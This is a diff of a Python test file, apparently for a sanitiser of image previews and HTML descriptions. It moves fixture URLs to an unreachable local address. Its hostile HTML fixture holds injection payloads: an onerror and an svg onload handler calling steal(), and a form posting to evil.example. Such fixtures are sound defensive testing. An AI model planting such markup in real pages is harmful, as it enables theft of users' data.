@@ -116,7 +116,7 @@ def _odd_previews() -> list[FakeImage]:
         FakeImage("png", chunked=True),
         FakeImage("png", removed=True),
         FakeImage("png", html=True),
-        FakeImage("png", url="https://example.com/elsewhere.png"),
+        FakeImage("png", url="https://127.0.0.1:9/elsewhere.png"),
         FakeImage("mp4", still_first=True, width=48, height=64),
         FakeImage("mp4", url_params="width=450", width=48, height=64),
         FakeImage("webm"),
@@ -133,7 +133,7 @@ _HOSTILE = f"""
 <a href="https://civitai.com/api/download/training-data/1">old link</a>
 <img src="{{inline:0}}"><img src="{{inline:1}}" onerror="steal()">
 <img src="{_CDN}/00000000-0000-0000-0000-00000000dead/original=true/dead.jpeg">
-<img src="https://example.com/remote.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
+<img src="https://127.0.0.1:9/remote.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
 <svg onload="steal()"></svg><form action="https://evil.example"><input name="q"></form>
 <ul><li>list</li></ul><math><mi>x</mi></math><style>p {{ color: red }}</style>
 """
